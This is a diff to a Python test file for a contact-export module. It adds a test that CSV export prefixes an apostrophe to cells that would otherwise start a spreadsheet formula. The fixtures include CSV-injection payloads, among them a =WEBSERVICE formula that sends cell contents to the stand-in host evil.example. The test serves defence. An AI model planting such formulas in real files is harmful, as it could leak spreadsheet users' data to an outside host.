@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 import json
 from typing import Any
 
@@ -214,3 +216,32 @@ def test_ties_and_entries_name_only_people_the_file_holds(alice: User, make_pers
     assert list(exports._ties(alice, {})) == [""]  # one batch, every tie left out
     [entries] = exports._interactions(alice, {})
     assert [json.loads(line)["people"] for line in entries.split(",\n  ")] == [[]] * 3
+
+
+def test_csv_cells_never_start_a_spreadsheet_formula(alice: User, make_person: Any) -> None:
+    """OWASP's CSV injection: a cell starting with =, +, -, @, tab or CR is written with a
+    leading apostrophe, which spreadsheets show as text; other cells are left as they are."""
+    make_person(
+        alice,
+        '=HYPERLINK("http://evil.example","x")',
+        organisation='=WEBSERVICE("http://evil.example/?"&A1)',
+        title="@SUM(1+1)",
+        phones=["+1 415 555 0123"],
+        notes="\tindented",
+        location="-2+3",
+    )
+    make_person(alice, "Ada Quill", title="CTO", notes="\rcarriage")
+    text = exports.export_csv(owner=alice).decode("utf-8-sig")
+    rows = {row[0]: row for row in csv.reader(io.StringIO(text, newline=""))}
+    evil = rows['\'=HYPERLINK("http://evil.example","x")']
+    columns = exports.CSV_COLUMNS
+    assert evil[columns.index("Organisation")] == '\'=WEBSERVICE("http://evil.example/?"&A1)'
+    assert evil[columns.index("Title")] == "'@SUM(1+1)"
+    assert evil[columns.index("Phones")] == "'+1 415 555 0123"
+    assert evil[columns.index("Notes")] == "'\tindented"
+    assert evil[columns.index("Location")] == "'-2+3"
+    ada = rows["Ada Quill"]
+    assert ada[columns.index("Title")] == "CTO"
+    assert ada[columns.index("Notes")] == "'\rcarriage"
+    for row in rows.values():
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
